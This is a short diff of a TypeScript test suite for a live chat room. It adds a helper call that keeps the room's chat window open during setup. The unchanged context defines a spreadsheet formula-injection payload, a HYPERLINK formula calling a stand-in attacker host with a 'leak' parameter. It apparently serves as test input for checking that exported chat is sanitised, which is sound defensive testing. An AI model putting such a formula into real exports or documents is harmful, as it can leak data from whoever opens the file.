@@ -16,7 +16,7 @@ import type { ChatMessage } from '../../src/shared/live/room.ts';
 import { ml } from '../../src/shared/multilingual.ts';
 import { startTestApp, PASSWORD, type Client, type TestApp } from '../support/app.ts';
 import { BACKENDS } from '../support/databases.ts';
-import { liveClient } from '../support/live-client.ts';
+import { holdNow, liveClient } from '../support/live-client.ts';
 
 const FORMULA = '=HYPERLINK("http://evil.example/?leak","Open me")';
 
@@ -268,6 +268,7 @@ for (const backend of BACKENDS) {
       t = await startTestApp(backend);
       await t.fastify.listen({ port: 0, host: '127.0.0.1' });
       url = `ws://127.0.0.1:${(t.fastify.server.address() as AddressInfo).port}/api/v1/live`;
+      await holdNow(t, DIALOGUE_2020_ID); // the room takes chat only inside its window
     });
     after(async () => t.close());
 
